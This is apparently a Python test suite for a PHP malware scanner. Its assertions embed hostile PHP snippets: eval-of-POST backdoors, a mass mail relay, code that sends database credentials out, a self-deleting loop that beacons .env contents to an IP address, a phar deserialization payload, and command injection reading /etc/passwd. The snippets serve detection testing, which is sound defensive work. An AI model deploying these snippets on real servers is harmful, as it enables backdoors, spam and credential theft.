    from spamtrace.scanner.lexer import lex

    probes = [p.read_bytes() for p in sorted(SAMPLES.rglob("*.php"))]
    probes.append(
        b"<?php $o = new Foo(); usort($a, 'assert'); array_map('sys' . 'tem', $b);"
        b" filter_var($x, FILTER_CALLBACK, ['options' => 'assert']); $n = new\tArrayMap();"
    )
    compared = 0
    for data in probes:
        code = lex(data).code
        if b"reflectionfunction" in code or b"fromcallable" in code:
            continue
        full = [m.span() for m in bounded_finditer(execution._CALLBACK_APIS, code)]
        plain = [m.span() for m in bounded_finditer(execution._CALLBACK_APIS_PLAIN, code)]
        assert full == plain
        compared += bool(full)
    assert compared >= 5


def test_each_prefilter_is_in_use_and_found_in_its_rule_s_matches() -> None:
    """A prefilter is keyed by its rule's pattern: each key is a built-in rule's pattern (an
    edited pattern would lose it silently), and it finds a match inside every match of that
    pattern on the samples that fire the rule."""
    from spamtrace.scanner import analyze
    from spamtrace.scanner.lexer import lex

    by_pattern = {r.regex.pattern: r for r in load_rules() if r.regex is not None}
    texts = [p.read_bytes() for p in sorted(SAMPLES.rglob("*")) if p.is_file()]
    texts.append(b"<?php usort(...$_GET); call_user_func(...@$_POST); $f('x', ... $_REQUEST);")
    for pattern, pre in analyze._PREFILTERS.items():
        assert pattern in by_pattern
        rx = by_pattern[pattern].regex
        assert rx is not None
        seen = 0
        for data in texts:
            code = lex(data).code
            for m in rx.finditer(code):
                assert pre.search(code, m.start(), m.end()) is not None
                seen += 1
        assert seen, by_pattern[pattern].id


def test_antibot_candidates_hold_every_literal_that_can_count() -> None:
    """The anti-bot gate reads only the candidate literals: every literal whose value names
    a security company or starts with an IP prefix is one (escapes, single-quoted escapes,
    NUL bytes and inline HTML around them included)."""
    from spamtrace.scanner.context import Ctx
    from spamtrace.scanner.features import phishing
    from spamtrace.scanner.lexer import lex

    texts = [p.read_bytes() for p in sorted(SAMPLES.rglob("*.php"))]
    texts.append(
        b"<html>66.249.1.1 phishtank</html><?php $a = ['^66.102', '64.233.160.*',"
        b" \"\\x36\\x36.1.\", 'net\\\\craft', 'sucu\\'ri',"
        b" \"kas\\x70ersky\", \"a\x00b 5.2.1\", '  72.14.*  ', 'x'];"
        b" if (strpos($_SERVER['REMOTE_ADDR'], $a[0]) !== false) { die(); }"
    )
    checked = 0
    for data in texts:
        lx = lex(data)
        ctx = Ctx(data=data, name="x.php", lx=lx, layer=0, check=lambda: None, yara=None)
        text = phishing.string_text(ctx)
        found = set(phishing._antibot_candidates(ctx, text))
        for idx in range(min(len(lx.raw_strings), 5000)):
            lit = lx.value(idx).lower().strip()
            if phishing._SECURITY_NAMES.search(lit) or phishing._IP_PREFIX.match(lit):
                assert idx in found, (lit, data[:60])
                checked += 1
    assert checked >= 8


_ANTIBOT_PIECES = [
    "net", "craft", "kas", "persky", "sucuri", "6", "66", "1", ".", "*", "^", " ", "\\n", "\\t",
    "\\$", '\\"', "\\\\", "\\x6e", "\\X6E", "\\156", "\\u{6e}", "\\x2e", "\\56", "\\x36", "\\c",
]  # fmt: skip


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.lists(st.sampled_from(_ANTIBOT_PIECES), max_size=8), max_size=6))
def test_antibot_candidates_hold_every_escaped_literal_that_can_count(
    bodies: list[list[str]],
) -> None:
    """Double-quoted literals whose escapes spell (or do not spell) a name, a digit or a
    dot: every literal whose value counts is a candidate, though the other escaped literals
    are not read."""
    from spamtrace.scanner.context import Ctx
    from spamtrace.scanner.features import phishing
    from spamtrace.scanner.lexer import lex

    items = ", ".join('"' + "".join(b) + '"' for b in bodies)
    data = f"<?php $a = [{items}];".encode()
    lx = lex(data)
    ctx = Ctx(data=data, name="x.php", lx=lx, layer=0, check=lambda: None, yara=None)
    found = set(phishing._antibot_candidates(ctx, phishing.string_text(ctx)))
    for idx in range(len(lx.raw_strings)):
        lit = lx.value(idx).lower().strip()
        if phishing._SECURITY_NAMES.search(lit) or phishing._IP_PREFIX.match(lit):
            assert idx in found, lit


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.integers(min_value=0, max_value=900), min_size=1, max_size=6),
    st.integers(min_value=0, max_value=3000),
)
def test_encoded_fraction_bound_hides_no_hit(sizes: list[int], plain: int) -> None:
    """php.encoded-file skips measuring the literals where those of >= 200 bytes are too
    few bytes together: its finding is the one the measurement of every literal gives."""
    import base64

    from spamtrace.scanner.context import FEATURES, Ctx
    from spamtrace.scanner.features import obfuscation
    from spamtrace.scanner.lexer import lex

    rule = next(r for r in load_rules() if r.id == "php.encoded-file")
    blobs = ", ".join(
        "'" + base64.b64encode(bytes(range(256)) * (n // 256 + 1))[:n].decode() + "'"
        for n in sizes
    )
    data = f"<?php $a = [{blobs}]; echo '{'x' * plain}';".encode()
    lx = lex(data)
    ctx = Ctx(data=data, name="x.php", lx=lx, layer=0, check=lambda: None, yara=None)
    hit = FEATURES["encoded_fraction"](ctx, rule)
    # the measurement of every literal, as it was before the bound
    enc = sum(
        len(lx.raw_strings[i])
        for i in lx.long
        if len(lx.raw_strings[i]) >= 200 and obfuscation._encodedness(lx.value(i)) is not None
    )
    need = float(rule.params.get("min_fraction", 0.6)) * len(data)
    assert (hit is not None) == (len(data) >= 1000 and enc >= need)


def test_a_write_to_a_php_handle_with_one_argument_is_read_without_error() -> None:
    """``fwrite($h)`` alone on a handle opened on a .php path (a call PHP refuses, seen in
    broken droppers): the rule reads no content from it, and the scan goes on."""
    res = analyze_bytes(b"<?php $h = fopen('x.php', 'w'); fwrite($h); echo 1;")
    assert "php.remote-php-write" not in rule_ids(res)


def test_a_contact_form_to_the_owners_free_mail_box_is_no_drop() -> None:
    """The visitor is the sender (From: the posted address): the owner's Gmail is where a
    one-person site reads its contact form, not an attacker's drop."""
    result = analyze_file(SAMPLES / "suspicious" / "contact-form-gmail-owner.php")
    assert "mailer.freemail-drop" not in rule_ids(result)
    assert result.verdict is ScanVerdict.SUSPICIOUS
    beacon = b"<?php mail('x.example@gmail.com', 'up', php_uname(), 'From: bot@example.invalid');"
    assert "mailer.freemail-drop" in rule_ids(analyze_bytes(beacon))


def _only(rule_id: str, data: bytes) -> bool:
    """Whether the rule ``rule_id`` fires on ``data`` when it is the only rule run (no rule
    that outranks it hides it)."""
    rules = [r for r in load_rules() if r.id == rule_id]
    return rule_id in rule_ids(analyze(data, "x.php", rules, yara=load_yara()))


def test_a_posted_subject_to_the_owners_fixed_address_is_no_header_injection() -> None:
    """mail() turns line breaks in its subject into spaces: a posted subject in a mail to the
    site's own fixed address (a contact form) adds no header and reaches nobody else. The
    request still counts in the headers, and in a subject to an address the visitor picks."""
    for name in ("contact-subject-to-owner.php", "contact-topic-to-owner.php"):
        result = analyze_file(SAMPLES / "clean" / name)
        assert result.verdict is ScanVerdict.CLEAN, name
    # mail-request-args reads request input in the call, mail-tainted-args through variables
    for rid, held in (("mailer.mail-request-args", False), ("mailer.mail-tainted-args", True)):
        def code(text: bytes, held: bool = held) -> bytes:
            if held:  # $_POST['s'] held in $s first
                text = re.sub(rb"\$_POST\['(\w)'\]", rb"$\1", text)
                return b"<?php $s = $_POST['s']; $f = $_POST['f']; " + text
            return b"<?php " + text
        assert not _only(rid, code(b"mail('office@example.com', $_POST['s'], 'x');"))
        assert not _only(rid, code(b"$o = 'o@example.com'; mail($o, $_POST['s'], 'x');"))
        assert not _only(rid, code(b"define('OWNER', 'o@ex.com'); mail(OWNER, $_POST['s'], 'x');"))
        headers = b"mail('office@example.com', 'Contact', 'x', 'From: ' . $_POST['f']);"
        assert _only(rid, code(headers)), rid
        picked = b"$u = get_user($_GET['id']); mail($u, $_POST['s'], 'x');"
        assert _only(rid, code(picked)), rid  # a subject to an address not the site's own
        # mb_send_mail() and imap_mail() build their headers otherwise: not relied on
        other = b"mb_send_mail('office@example.com', $_POST['s'], 'x');"
        assert _only(rid, code(other)), rid
    twice = b"<?php $o = 'a@example.com'; $o = $_POST['o']; mail($o, $_POST['s'], 'x');"
    assert _only("mailer.mail-request-args", twice)
    relay = (
        b"<?php\nforeach (explode(\"\\n\", $_POST['emails']) as $to) {\n"
        b"    mail($to, $_POST['subject'], $_POST['body'], 'From: ' . $_POST['from']);\n}\n"
    )
    assert analyze_bytes(relay).verdict is ScanVerdict.MALICIOUS


def test_vulnerabilities_together_stay_suspicious_and_intent_still_adds() -> None:
    """An unchecked upload and SQL built from the request are holes, not intent: together they
    count at most VULNERABILITY_CAP; a finding of intent on top makes the file malicious."""
    path = SAMPLES / "suspicious" / "upload-form-recorded.php"
    result = analyze_file(path)
    assert {"shell.upload-unchecked", "shell.sql-from-request"} <= rule_ids(result)
    assert result.score == VULNERABILITY_CAP
    assert result.verdict is ScanVerdict.SUSPICIOUS
    data = path.read_bytes() + b"<?php eval($_POST['x']); ?>\n"
    assert analyze_bytes(data).verdict is ScanVerdict.MALICIOUS


def test_an_upload_form_of_a_site_is_no_planted_uploader() -> None:
    """A self-posting upload form whose file is named by the script (a unique part),
    recorded in the site's database, or kept under the client's name in a folder of its own
    (a tutorial's upload page) is a site's page, a hole; one behind a password written in
    the file, or one that names what it stores a .php, shows what it is for."""
    for name in (
        "upload-form-recorded.php",
        "upload-form-unique-name.php",
        "upload-page-own-folder.php",
    ):
        found = rule_ids(analyze_file(SAMPLES / "suspicious" / name))
        assert "shell.upload-unchecked" in found
        assert "shell.small-uploader" not in found
        assert "shell.upload-anywhere" not in found
    planted = analyze_file(SAMPLES / "malicious" / "upload-hidden-gate.php")
    assert "shell.small-uploader" in rule_ids(planted)
    named_php = (SAMPLES / "suspicious" / "upload-form-unique-name.php").read_bytes()
    name = b"basename($_FILES['doc']['name'])"
    named_php = named_php.replace(name, name + b" . '.php'", 1)  # stored as a script
    assert "shell.small-uploader" in rule_ids(analyze_bytes(named_php))


def test_extract_of_the_request_is_a_hole_and_what_is_done_with_it_is_intent() -> None:
    """extract($_POST) in a small form handler is a hole, at most suspicious (no small-file
    bonus); the variables it fills are the visitor's, so a command run from one, or a
    password field among them written to a results file, is what makes a file malicious."""
    form = analyze_file(SAMPLES / "suspicious" / "extract-contact-form.php")
    assert "php.extract-request" in rule_ids(form)
    assert "php.small-single-purpose" not in rule_ids(form)
    assert form.verdict is ScanVerdict.SUSPICIOUS
    shell = analyze_file(SAMPLES / "malicious" / "extract-register-shell.php")
    assert "shell.exec-unassigned-var" in rule_ids(shell)
    assert shell.verdict is ScanVerdict.MALICIOUS
    harvest = analyze_file(SAMPLES / "malicious" / "extract-login-harvest.php")
    assert "mailer.credentials-dropped" in rule_ids(harvest)
    assert harvest.verdict is ScanVerdict.MALICIOUS
    # an included file may set the variable: the benefit of the doubt, as before
    included = b"<?php include 'settings.php'; extract($_REQUEST); system($c);\n"
    assert "shell.exec-unassigned-var" not in rule_ids(analyze_bytes(included))


def test_columns_bound_by_a_prepared_statement_are_assigned() -> None:
    """$stmt->bind_result($path) fills $path by reference: a download script reading the
    stored path is no file operation through a variable the file never sets."""
    found = rule_ids(analyze_file(SAMPLES / "clean" / "prepared-download.php"))
    assert "shell.file-op-unassigned-var" not in found
    assert "shell.file-op-unassigned-var" in rule_ids(
        analyze_file(SAMPLES / "malicious" / "register-globals-default.php")
    )


def test_percent_encoded_input_after_a_literal_command_is_an_argument() -> None:
    """A deploy hook puts the posted git credentials into the remote's URL with
    rawurlencode() and runs "git pull URL" through its own exec() helper: no shell character
    survives the encoding, so the command is the script's. Encoded input that starts the
    command (urlencode() keeps a bare word such as a command name) still counts."""
    hook = analyze_file(SAMPLES / "clean" / "git-pull-credentials.php")
    assert hook.verdict is ScanVerdict.CLEAN
    runner = analyze_file(SAMPLES / "malicious" / "encoded-command-runner.php")
    assert "shell.exec-wrapper-request" in rule_ids(runner)
    assert runner.verdict is ScanVerdict.MALICIOUS
    # the same URL built from the raw field is request input in the command, as before
    code = (SAMPLES / "clean" / "git-pull-credentials.php").read_bytes()
    raw = code.replace(b"rawurlencode($_POST['user'])", b"$_POST['user']")
    assert "shell.exec-wrapper-request" in rule_ids(analyze_bytes(raw))


def test_sent_text_follows_the_variables_in_the_order_written() -> None:
    """What a send's variables were given comes in the order they are written, whatever the
    hash seed: which literal a finding quotes (mailer.brand-results-sent) once changed from
    run to run, as the variables were gathered in a set."""
    from spamtrace.scanner.context import PLACEHOLDER, Ctx
    from spamtrace.scanner.features import phishing
    from spamtrace.scanner.lexer import lex

    names = [f"part{i}" for i in range(9, 0, -1)]
    given = " ".join(f"${n} = 'value of {n}';" for n in sorted(names))
    data = f"<?php {given} mail('a@example.org', 's', {' . '.join('$' + n for n in names)});"
    lx = lex(data.encode())
    ctx = Ctx(data=data.encode(), name="x.php", lx=lx, layer=0, check=lambda: None, yara=None)
    expr = " . ".join("$" + n for n in names).encode()
    text = phishing._sent_text(ctx, expr, 1)
    quoted = [lx.value(int(m.group(1))).decode() for m in PLACEHOLDER.finditer(text)]
    assert quoted == [f"value of {n}" for n in names]


def test_a_header_variable_never_set_makes_the_visitor_the_sender() -> None:
    """An order form mails the owner's free-mail box with ``$headers .= "Reply-To: $email"``
    and never sets $email (a field the author forgot to read, or register_globals): the form
    means the visitor as sender, as with a posted $email, so it is no drop of stolen data.
    The same mail with fixed headers, or $email set by the script, is still a drop."""
    code = (SAMPLES / "clean" / "contact-reply-to-unset.php").read_bytes()
    assert "mailer.freemail-drop" not in rule_ids(analyze_bytes(code))
    fixed = code.replace(b'"Reply-To: $email\\r\\n"', b'"Reply-To: orders@example.com\\r\\n"')
    assert "mailer.freemail-drop" in rule_ids(analyze_bytes(fixed))
    set_here = code.replace(b"$to = ", b"$email = 'shop@example.com';\n    $to = ")
    assert "mailer.freemail-drop" in rule_ids(analyze_bytes(set_here))


def test_a_command_value_checked_against_a_list_or_a_format_is_no_command() -> None:
    """A value that must be one of a literal list, a valid IP address or a number, or
    match an anchored pattern of a safe alphabet, reaches the command as a value: a
    deploy hook's branch, a ping tool's address. A check that lets ";" through, one joined
    by "||", or a value replaced after the check still runs the visitor's command."""
    for name in ("deploy-branch-webhook.php", "ping-validated-ip.php"):
        assert "shell.exec-tainted" not in rule_ids(analyze_file(SAMPLES / "clean" / name))
    weak = (SAMPLES / "malicious" / "exec-weak-guards.php").read_text()
    head, *blocks = weak.split("\nif ")
    assert len(blocks) == 3
    for block in blocks:
        one = (head + "\nif " + block).encode()
        assert "shell.exec-tainted" in rule_ids(analyze_bytes(one)), block


_ARGUMENT_HOLES = ("exec-thumb-ffmpeg-argument.php", "exec-rm-upload-name.php",
                   "exec-convert-upload-name.php", "exec-sprintf-converter-argument.php")
_CHOSEN_COMMANDS = ("exec-argument-shell-c.php", "exec-argument-after-separator.php",
                    "exec-argument-downloader.php", "exec-argument-program-path.php",
                    "exec-argument-glued.php", "exec-argument-piped-interpreter.php",
                    "exec-sprintf-command.php", "exec-sprintf-shell-code.php")
# the same fixed program, but the visitor gets back what it ran (echoed, printed through
# exec()'s output array, system/shell_exec echoed) or one part is quoted beside a raw one
_SHOWN_OR_QUOTED = ("exec-argument-output-echoed.php", "exec-argument-output-array.php",
                    "exec-ping-host-argument.php", "exec-quoted-and-raw.php",
                    "exec-db-self-registered.php", "exec-db-check-widened.php")


def test_fixed_program_with_request_arguments_is_a_hole_not_a_backdoor() -> None:
    """A fixed program given request data among its arguments, run blind, is the site's
    own command with an injection hole (suspicious, the program named); the same call
    rewritten so that the visitor chooses what runs (sh -c, a command after && or |, a
    downloader, the program's path or name from the request), or sees what it ran, stays
    a shell command of the visitor's."""
    for name in _ARGUMENT_HOLES:
        result = analyze_file(SAMPLES / "suspicious" / name)
        ids = rule_ids(result)
        assert "shell.exec-request-argument" in ids, name
        assert not {"shell.exec-request-input", "shell.exec-tainted"} & ids, name
        assert result.verdict is ScanVerdict.SUSPICIOUS, name
        hole = next(f for f in result.findings if f.rule == "shell.exec-request-argument")
        assert hole.excerpt.startswith("arguments of "), hole.excerpt
        assert hole.description.startswith("command injection hole: request data in the arguments")
    for name in _CHOSEN_COMMANDS + _SHOWN_OR_QUOTED:
        result = analyze_file(SAMPLES / "malicious" / name)
        ids = rule_ids(result)
        assert "shell.exec-request-argument" not in ids, name
        assert {"shell.exec-request-input", "shell.exec-tainted"} & ids, name
        assert result.verdict is ScanVerdict.MALICIOUS, name


def test_a_command_line_built_with_sprintf_is_read_as_the_line_it_builds() -> None:
    """``shell_exec(sprintf("tools/tile_clip --in %s --tiles %s", $dest, $tiles))`` runs
    the site's own program with the request's value among its arguments: the format's
    text is the command line, each %s a value the script does not write, each %d a number
    (cleansmall26's video uploader was malicious on this, shell.exec-tainted: the whole
    sprintf() was read as the program's name). A format whose first word is the value
    (``sprintf("%s 2>&1", $c)``, also ``%2$s``) or a shell given it (``bash -c %s``) stays
    a command of the visitor's; an escapeshellarg()-quoted argument is no finding."""
    hole = analyze_file(SAMPLES / "suspicious" / "exec-sprintf-converter-argument.php")
    assert "shell.exec-request-argument" in rule_ids(hole)
    assert hole.verdict is ScanVerdict.SUSPICIOUS
    finding = next(f for f in hole.findings if f.rule == "shell.exec-request-argument")
    assert finding.excerpt.startswith("arguments of tile_clip: ")
    positional = b"<?php\n$f = 'x.mp4';\nexec(sprintf('%2$s %1$s > /dev/null', $f, $_GET['p']));\n"
    for code in (
        (SAMPLES / "malicious" / "exec-sprintf-command.php").read_bytes(),
        (SAMPLES / "malicious" / "exec-sprintf-shell-code.php").read_bytes(),
        positional,
    ):
        result = analyze_bytes(code)
        assert "shell.exec-request-argument" not in rule_ids(result)
        assert {"shell.exec-request-input", "shell.exec-tainted"} & rule_ids(result)
        assert result.verdict is ScanVerdict.MALICIOUS
    quoted = analyze_file(SAMPLES / "clean" / "exec-sprintf-quoted-argument.php")
    assert quoted.verdict is ScanVerdict.CLEAN


def test_a_dump_sent_to_a_data_file_is_a_hole_not_a_console() -> None:
    """A backup page runs ``system("mysqldump ... $db > $db.sql")`` with the database's
    name from the request: the output goes to a .sql file of the site's own and the page
    reads nothing back, so the visitor sees no command's output and names no script to
    write; an injection hole (suspicious), not a console. The same call whose output file
    is a .php, is named by the request, is read back with readfile(), or is followed by a
    second command that prints, stays a command of the visitor's (malicious)."""
    code = (SAMPLES / "suspicious" / "exec-dump-to-data-file.php").read_bytes()
    result = analyze_bytes(code)
    assert "shell.exec-request-argument" in rule_ids(result)
    assert not {"shell.exec-request-input", "shell.exec-tainted"} & rule_ids(result)
    assert result.verdict is ScanVerdict.SUSPICIOUS
    inline = code.replace(b'$dump = $name . \'.sql\';', b"$dump = 'x';").replace(
        b'" > $dump"', b'" > $name.sql"'
    )
    assert analyze_bytes(inline).verdict is ScanVerdict.SUSPICIOUS
    for old, new in (
        (b"$name . '.sql'", b"$name . '.php'"),
        (b'" > $dump"', b'" > " . $_GET[\'out\']'),
        (b"echo 'Backup written.';", b"readfile('backups/' . $dump);"),
        (b'" > $dump"', b'" > $dump; cat /etc/passwd"'),
        (b"system($cmd);", b"popen($cmd, 'r');"),
    ):
        changed = code.replace(old, new)
        assert changed != code, old
        result = analyze_bytes(changed)
        assert "shell.exec-request-argument" not in rule_ids(result), new
        assert result.verdict is ScanVerdict.MALICIOUS, new


def test_an_upload_hole_beside_an_argument_hole_stays_suspicious() -> None:
    """Two vulnerabilities (the upload kept under the visitor's name, that name given to
    convert) add up to at most suspicious; shown back to the visitor, the command is his."""
    code = (
        b"<?php\n$p = 'up/' . $_FILES['f']['name'];\n"
        b"move_uploaded_file($_FILES['f']['tmp_name'], $p);\n"
        b"$o = shell_exec('convert ' . $p . ' -resize 400 ' . $p);\n"
        b"echo 'done';\n"
    )
    result = analyze_bytes(code)
    assert {"shell.exec-request-argument", "shell.upload-unchecked"} <= rule_ids(result)
    assert result.verdict is ScanVerdict.SUSPICIOUS
    shown = code.replace(b"echo 'done';", b"echo $o;")
    result = analyze_bytes(shown)
    assert result.verdict is ScanVerdict.MALICIOUS
    assert "shell.exec-request-argument" not in rule_ids(result)


def test_argument_hole_in_a_decoded_layer_stays_malicious() -> None:
    import base64

    inner = b"exec('rm -f /tmp/x/' . $_GET['f']);"
    code = b"<?php eval(base64_decode('" + base64.b64encode(inner) + b"'));"
    result = analyze_bytes(code)
    assert result.verdict is ScanVerdict.MALICIOUS
    assert "shell.exec-request-argument" not in rule_ids(result)


def test_a_console_behind_the_sites_own_login_is_suspicious() -> None:
    """A command box that runs only for the site's signed-in admin (a session key the file
    never sets) is the site's own console: suspicious; so is one whose gate sends away a
    visitor whose key is missing *or* false (!isset($_SESSION['k']) || !$_SESSION['k']), or
    that runs inside isset($_SESSION['k']) *and* another test. One that keeps its own session
    after its own password check, or lets a key in the address past the login (the session
    test with `&&` beside it where it sends the visitor away, with `||` where it lets them
    in), is a backdoor."""
    for name in (
        "exec-console-signed-in.php",
        "exec-console-signed-in-either.php",
        "exec-console-signed-in-both.php",
    ):
        result = analyze_file(SAMPLES / "suspicious" / name)
        assert result.verdict is ScanVerdict.SUSPICIOUS, name
        assert "shell.exec-request-signed-in" in rule_ids(result), name
        assert not {"shell.exec-request-input", "shell.exec-tainted"} & rule_ids(result), name
    for name in (
        "exec-console-own-session.php",
        "exec-console-session-or-key.php",
        "exec-console-session-or-grant.php",
        "exec-console-session-either-set.php",
    ):
        result = analyze_file(SAMPLES / "malicious" / name)
        assert result.verdict is ScanVerdict.MALICIOUS, name
        assert "shell.exec-request-signed-in" not in rule_ids(result), name


def test_an_installer_that_runs_its_own_statements_is_no_database_backdoor() -> None:
    """The database account typed into an installer that creates its database under the
    name typed and runs its own schema file, reading no row back: the name typed is an
    injection hole (suspicious), the connection no backdoor. The visitor's SQL joined to a
    statement of the script's own, or rows shown, keeps shell.db-connect-request."""
    found = analyze_file(SAMPLES / "suspicious" / "installer-create-database.php")
    assert "shell.db-connect-request" not in rule_ids(found)
    assert found.verdict is ScanVerdict.SUSPICIOUS
    for name in ("db-tool.php", "db-tool-blind-appended.php", "db-tool-inline-escape-decoy.php"):
        assert "shell.db-connect-request" in rule_ids(analyze_file(SAMPLES / "malicious" / name))
    stream = (SAMPLES / "suspicious" / "installer-create-database.php").read_bytes().replace(
        b"file_get_contents('schema.sql')", b"file_get_contents('php://input')"
    )
    assert "shell.db-connect-request" in rule_ids(analyze_bytes(stream))
    subquery = (SAMPLES / "suspicious" / "installer-create-database.php").read_bytes().replace(
        b"'CREATE DATABASE IF NOT EXISTS `' . $name . '`'", b"'DELETE FROM t WHERE EXISTS ' . $name"
    )
    assert "shell.db-connect-request" in rule_ids(analyze_bytes(subquery))


def test_database_settings_sent_away_are_credential_theft() -> None:
    """wp-config.php's DB_PASSWORD with DB_USER in a request body is theft; connecting with
    the same constants and posting a status without them is an ordinary plugin."""
    sent = (
        b"<?php\n$u = hex2bin('687474703a2f2f6578616d706c652e6e6574');\n"
        b"wp_remote_post($u, ['body' => ['h' => DB_HOST, 'u' => DB_USER, 'p' => DB_PASSWORD]]);\n"
    )
    assert "shell.db-credentials-sent" in rule_ids(analyze_bytes(sent))
    held = (
        b"<?php\n$r = array('user' => DB_USER, 'pass' => DB_PASSWORD);\n"
        b"mail('a@example.net', 'site', print_r($r, true));\n"
    )
    assert "shell.db-credentials-sent" in rule_ids(analyze_bytes(held))
    connects = (
        b"<?php\n$db = new wpdb(DB_USER, DB_PASSWORD, DB_NAME, DB_HOST);\n"
        b"wp_remote_post('https://status.example.org/', ['body' => ['db' => DB_NAME]]);\n"
        b"wp_mail(get_option('admin_email'), 'db', $db->last_error);\n"
    )
    assert "shell.db-credentials-sent" not in rule_ids(analyze_bytes(connects))


def test_an_upload_opened_as_an_image_is_a_resizer_not_a_dropper() -> None:
    """A photo resizer that keeps the client's name and then loads the stored file with GD
    (through a function of its own) is careless, not a planted uploader: the name may still
    be anything (shell.upload-anywhere), but nothing says it drops files. The same uploader
    whose GD call opens a picture of its own stays one."""
    resizer = analyze_file(SAMPLES / "suspicious" / "upload-resize-client-name.php")
    assert resizer.verdict is ScanVerdict.SUSPICIOUS
    found = rule_ids(resizer)
    assert "shell.upload-anywhere" in found
    assert not found & {"shell.upload-unchecked", "shell.small-uploader"}
    decoy = rule_ids(analyze_file(SAMPLES / "malicious" / "upload-image-decoy.php"))
    assert {"shell.upload-unchecked", "shell.small-uploader"} <= decoy
    # loaded by the same expression it was saved under, with no variable between
    direct = (
        b"<?php\nmove_uploaded_file($_FILES['p']['tmp_name'], $_FILES['p']['name']);\n"
        b"$im = imagecreatefromjpeg($_FILES['p']['name']);\n"
    )
    assert "shell.upload-unchecked" not in rule_ids(analyze_bytes(direct))
    # a loader function of its own whose parameter bears the stored variable's name, called
    # with another file: the definition is no call
    named_alike = (
        b"<?php\nfunction icon($file) { return imagecreatefrompng($file); }\n$i = icon('a.png');\n"
        b"$file = $_FILES['p']['name'];\nmove_uploaded_file($_FILES['p']['tmp_name'], $file);\n"
    )
    assert "shell.upload-unchecked" in rule_ids(analyze_bytes(named_alike))
    held = (
        b"<?php\n$dest = $_FILES['p']['name'];\n"
        b"move_uploaded_file($_FILES['p']['tmp_name'], $dest);\n"
        b"$im = imagecreatefromjpeg($dest);\nimagejpeg($im, $dest, 80);\n"
    )
    assert "shell.upload-unchecked" not in rule_ids(analyze_bytes(held))


def test_a_phar_built_with_an_object_as_metadata_is_a_deserialization_payload() -> None:
    """A script that builds a phar archive and stores an object of a class as its metadata
    (phar:// unserializes it: the gadget's __destruct runs with the properties the script
    set) or gives it a stub with an image header (an upload form takes it for a picture)
    makes an exploit, whatever class it names; the gadget's class need not be in the file.
    A tool's phar build stores plain data (an array, a stdClass) and a PHP stub."""
    gadget = (
        b"<?php\n$o = new \\Shop\\Log\\Writer();\n$o->file = '/var/www/shop/pub/a.php';\n"
        b"$o->lines = array('x');\n$a = new Phar('x.phar');\n$a->startBuffering();\n"
        b"$a->setStub('<?php __HALT_COMPILER(); ?>');\n$a->addFromString('t', 't');\n"
        b"$a->setMetadata($o);\n$a->stopBuffering();\n"
    )
    found = analyze_bytes(gadget)
    assert "php.phar-deserialization-payload" in rule_ids(found)
    assert found.verdict is ScanVerdict.MALICIOUS
    image = (
        b"<?php\n$a = new \\Phar('x.phar');\n$a->startBuffering();\n"
        b"$a->setStub(\"\\xff\\xd8\\xff\\xe0\" . '<?php __halt_compiler(); ?>');\n"
        b"$a->addFromString('t', 't');\n$a->stopBuffering();\n"
    )
    assert "php.phar-deserialization-payload" in rule_ids(analyze_bytes(image))
    for build in (
        b"<?php\n$p = new Phar('t.phar');\n$p->setMetadata(array('v' => '1.2'));\n"
        b"$p->setStub(\"#!/usr/bin/env php\\n<?php Phar::mapPhar('t.phar');"
        b" __HALT_COMPILER();\");\n",
        b"<?php\n$m = new stdClass();\n$m->v = 2;\n$p = new PharData('t.tar');\n"
        b"$p->setMetadata($m);\n",
        b"<?php\n$p = new Phar('t.phar');\n$p->setMetadata($cfg->meta());\n"
        b"$doc->setMetadata(new DocMeta('x'));\n",
    ):
        assert "php.phar-deserialization-payload" not in rule_ids(analyze_bytes(build))


def test_a_script_that_deletes_itself_and_loops_for_ever_is_a_resident_shell() -> None:
    """ignore_user_abort(true), no time limit, unlink(__FILE__) and then a loop that never
    ends: the script keeps running in memory with no file on disk (an "immortal" shell that
    polls, exfiltrates or rewrites a backdoor), malicious even when the loop itself runs no
    command. An installer that deletes itself and leaves, a worker whose loop keeps its
    file, and a loop before the self-deletion are not."""
    resident = (
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n@unlink(__FILE__);\n$s = '';\n"
        b"while (1) {\n    $t = @file_get_contents('/srv/app/.env');\n"
        b"    if ($t !== $s) { $s = $t; @file_get_contents('http://203.0.113.9/?' . md5($t)); }\n"
        b"    sleep(9);\n}\n"
    )
    found = analyze_bytes(resident)
    assert "php.self-deleting-resident" in rule_ids(found)
    assert found.verdict is ScanVerdict.MALICIOUS
    for rewritten in (
        resident.replace(b"@unlink(__FILE__);", b"@unlink(basename(__FILE__));"),
        resident.replace(b"@unlink(__FILE__);", b"$me = __FILE__;\nunlink($me);"),
        resident.replace(b"while (1) {", b"do {").replace(
            b"sleep(9);\n}", b"sleep(9);\n} while (1);"
        ),
    ):
        assert "php.self-deleting-resident" in rule_ids(analyze_bytes(rewritten)), rewritten
    for kept in (
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\nimport_all();\n"
        b"@unlink(__FILE__);\nheader('Location: /');\n",
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n"
        b"while (true) { run_jobs(); sleep(5); }\n",
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\n"
        b"while (true) { if (done()) break; }\nunlink(__FILE__);\n",
        b"<?php\nignore_user_abort();\nset_time_limit(0);\nunlink(__FILE__);\n"
        b"while (true) { tick(); }\n",
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\nunlink(__FILE__);\n"
        b"while (true) { $l = fgets($f); if ($l === false) { break; } echo $l; }\n",
        b"<?php\nignore_user_abort(true);\nset_time_limit(0);\nunlink($cache);\n"
        b"while (true) { tick(); }\n",
    ):
        assert "php.self-deleting-resident" not in rule_ids(analyze_bytes(kept))


def test_a_fixed_letter_to_the_local_mta_is_a_check_but_a_server_file_in_it_is_not() -> None:
    """mailer.raw-smtp-dialogue leaves out a fixed test letter to localhost (the clock the only
    call in it); what a call answers, written into the letter, is the server's data sent
    away, and a host or line in a variable is the caller's choice."""
    head = b"<?php\n$f = fsockopen('localhost', 25);\n"
    tail = (
        b'fwrite($f, "HELO localhost\\r\\n");\n'
        b'fwrite($f, "MAIL FROM: <a@example.invalid>\\r\\n");\n'
        b'fwrite($f, "RCPT TO: <b@example.invalid>\\r\\n");\n'
        b'fwrite($f, "DATA\\r\\n");\n'
    )
    check = head + tail + b'fwrite($f, "Sent " . date("r") . "\\r\\n.\\r\\nQUIT\\r\\n");\n'
